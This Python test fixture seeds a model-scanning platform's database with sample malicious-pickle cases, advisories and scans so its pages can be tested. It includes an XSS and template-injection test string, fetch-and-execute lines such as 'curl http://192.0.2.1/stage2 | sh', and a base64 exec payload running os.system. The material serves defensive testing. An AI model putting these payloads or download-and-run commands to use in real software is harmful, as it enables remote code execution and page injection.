"""A registry with a lot in it, made in the database directly where nothing depends on the way."""

from __future__ import annotations

from datetime import timedelta

from django.utils import timezone
from registry import calling, decided_malicious, infected, person, scanned, unvouched

from weighbridge.platform.accounts.roles import Role
from weighbridge.platform.advisories import services as advisories
from weighbridge.platform.advisories.models import Advisory
from weighbridge.platform.audit.canonical import storable
from weighbridge.platform.cases import deciding
from weighbridge.platform.cases import services as cases
from weighbridge.platform.cases.models import RANKS, Case, Occurrence
from weighbridge.platform.catalog.models import (
    Artifact,
    Lineage,
    Model,
    ModelFile,
    ModelVersion,
    ProviderVerdict,
)
from weighbridge.platform.notices.telling import fill
from weighbridge.platform.publications import webhooks
from weighbridge.platform.scans import hunts
from weighbridge.platform.scans.models import Scan

HOSTILE = "\u202e<script>alert(1)</script>\x1b[31m\x00\u2028{{7*7}}\"'><img src=x onerror=alert(2)>"
LONG = "organisation-with-a-rather-long-name/" + "a-model-that-was-fine-tuned-and-quantised-" * 4


def queue_of(count: int, names: tuple[str, ...] = ("os.system",)) -> None:
    """Cases that wait, of many ages and degrees of popularity, with one place each."""
    now = timezone.now()
    words = list(RANKS)
    Case.objects.bulk_create(
        (
            Case(
                behaviour=f"crowd-{number}",
                family=f"family-{number % 7}",
                rule="dangerous-call",
                verdict=words[number % 3],
                rank=RANKS[words[number % 3]],
                title=f"Loading it starts a process ({names[number % len(names)]})"[:300],
                effect="process_exec",
                popularity=(number * 7919) % 1_000_000,
            )
            for number in range(count)
        ),
        batch_size=1000,
    )
    made = list(Case.objects.filter(behaviour__startswith="crowd-").order_by("pk"))
    for number, case in enumerate(made):
        case.opened_at = now - timedelta(minutes=(number * 37) % 40_000)
    Case.objects.bulk_update(made, ["opened_at"], batch_size=500)
    places_of(made, 1)


def places_of(made: list[Case], each: int, name: str = "crowd/model", among: int = 50) -> None:
    """Give cases contents, each in a version of a model of its own."""
    models = [Model(provider="huggingface", name=f"{name}-{n}", downloads=n) for n in range(among)]
    Model.objects.bulk_create(models, ignore_conflicts=True)
    models = list(Model.objects.filter(name__startswith=f"{name}-").order_by("pk"))
    versions = [ModelVersion(model=model, revision=f"{n:040x}") for n, model in enumerate(models)]
    ModelVersion.objects.bulk_create(versions, ignore_conflicts=True)
    versions = list(ModelVersion.objects.filter(model__in=models).order_by("pk"))
    artifacts, places, files = [], [], []
    begin = Artifact.objects.count()
    for case in made:
        for number in range(each):
            key = f"{case.pk:032x}{begin + number:032x}"
            artifacts.append(
                Artifact(key=key, sha256=key, sha256_source="computed", size=1000, format="pickle")
            )
    Artifact.objects.bulk_create(artifacts, batch_size=1000)
    for at, artifact in enumerate(artifacts):
        case = made[at // each]
        version = versions[at % len(versions)]
        path = f"{at}/pytorch_model.bin"
        files.append(ModelFile(version=version, path=path, artifact=artifact, role="weights"))
        places.append(
            Occurrence(
                case=case,
                artifact=artifact,
                behaviour=case.behaviour,
                place=artifact.key,
                rule=case.rule,
                kind=case.verdict,
                title=case.title,
                path="pytorch_model.bin",
                offset=78,
                fingerprint="f",
                evidence=EVIDENCE,
                rules_version="1",
            )  # fmt: skip
        )
    ModelFile.objects.bulk_create(files, batch_size=1000)
    Occurrence.objects.bulk_create(places, batch_size=1000)


EVIDENCE = {
    "code": "os.system('curl http://192.0.2.1/x | sh')",
    "symbols": ["os.system"],
    "why": ["starts a process"],
    "effects": ["process_exec"],
}


def settled_registry(hostile: bool = False) -> dict[str, int | str]:
    """A registry some weeks old, with everything that a page can show; says where things are.

    Args:
        hostile: with names that try to break out of the page.
    """
    name = storable(HOSTILE if hostile else LONG[:160])
    lead = person("lena", Role.LEAD)
    ada, bob = person("ada"), person("bob")
    fill()
    webhooks.create(lead, "https://hooks.example.org/weighbridge", ["advisory.issued"])
    command = HOSTILE if hostile else "curl -s http://192.0.2.1/stage2 | sh"
    code = f"import os,base64\nexec(base64.b64decode('{'aW1wb3J0IG9z' * 8}'))\nos.system('id')"
    first = scanned(infected(command), "pytorch_model.bin", name)
    nested = scanned(calling("builtins", "exec", code), "nested.pkl", "acme/nested-payload")
    scanned(unvouched("x" if not hostile else HOSTILE), "odd.pkl", "acme/odd")
    shell = Case.objects.get(occurrences__artifact__files__version=first.version)
    family = _kin(first.version.model, hostile)
    file = ModelFile.objects.filter(version=first.version).first()
    for scanner, said in (("picklescan", "unsafe"), ("avScan", "safe"), ("protectAi", name[:60])):
        ProviderVerdict.objects.create(file=file, scanner=scanner, status=said, text=name[:300])
    cases.note(ada, shell.pk, f"Seen before: {name}")
    decided_malicious(shell)
    other = Case.objects.get(occurrences__artifact__files__version=nested.version)
    cases.assign(lead, other.pk, ada)
    cases.start(ada, other.pk)
    proposed = Case.objects.exclude(pk__in=[shell.pk, other.pk]).get()
    cases.claim(bob, proposed.pk)
    cases.start(bob, proposed.pk)
    deciding.propose_malicious(bob, proposed.pk, f"It hides what it does. {name}")
    opening = advisories.Opening(
        "Needs code from elsewhere", f"It fetches it. {name}", model=family
    )
    ws = advisories.reserve_ws(ada, opening)
    advisories.publish_ws(ada, ws.pk)
    advisories.revise_ws(ada, ws.pk, {"description": "It fetches what it runs."}, "clearer")
    hunt = hunts.hunt(ada, "import", "os.system")
    hunts.hunt(ada, "string", name[:100])
    queue_of(60, ("os.system", "subprocess.Popen", name[:200]))
    _past()
    fill()
    msc = Advisory.objects.get(kind="MSC")
    return {
        "decided": shell.pk,
        "analysis": other.pk,
        "proposed": proposed.pk,
        "model": first.version.model_id,
        "scan": first.pk,
        "hunt": hunt.pk,
        "msc": f"MSC-{msc.year}-{msc.number:04d}",
        "ws": f"WS-{ws.year}-{ws.number:04d}",
    }


def _kin(model: Model, hostile: bool) -> Model:
    """Models that this one was made from and into; returns a public one."""
    made = [Model(provider="huggingface", name=f"kin/child-{n}", downloads=n) for n in range(15)]
    Model.objects.bulk_create(made)
    rows = [Lineage(child=one, parent_name=model.name, relation="fine-tune") for one in made]
    base = storable(HOSTILE[:60]) if hostile else "base/large-language-model"
    Lineage.objects.bulk_create([*rows, Lineage(child=model, parent_name=base, relation="merge")])
    ModelVersion.objects.create(model=made[0], revision="a" * 40)
    return made[0]


def _past() -> None:
    """Scans of the last weeks."""
    now = timezone.now()
    words = ["clean"] * 9 + ["weakness", "suspicious", "malicious", "inconclusive", "clean"]
    made = [
        Scan(kind="hub", target=f"hf://acme/model-{n}", state="done", verdict=words[n % 14])
        for n in range(300)
    ]
    Scan.objects.bulk_create(made)
    made = list(Scan.objects.filter(target__startswith="hf://acme/").order_by("pk"))
    for number, row in enumerate(made):
        row.finished_at = now - timedelta(hours=(number * number) % 700)
    Scan.objects.bulk_update(made, ["finished_at"], batch_size=200)
